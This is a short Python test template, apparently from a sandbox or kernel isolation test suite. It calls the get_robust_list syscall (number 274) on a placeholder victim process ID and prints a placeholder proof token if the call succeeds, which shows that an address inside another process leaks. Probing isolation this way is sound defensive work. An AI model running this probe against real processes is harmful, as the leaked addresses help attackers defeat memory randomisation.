"""get_robust_list gives an address inside another process."""
import ctypes
head, size = ctypes.c_void_p(), ctypes.c_size_t()
if ctypes.CDLL(None).syscall(274, @VICTIM_PID@, ctypes.byref(head), ctypes.byref(size)) == 0:
    print("@PROOF@")
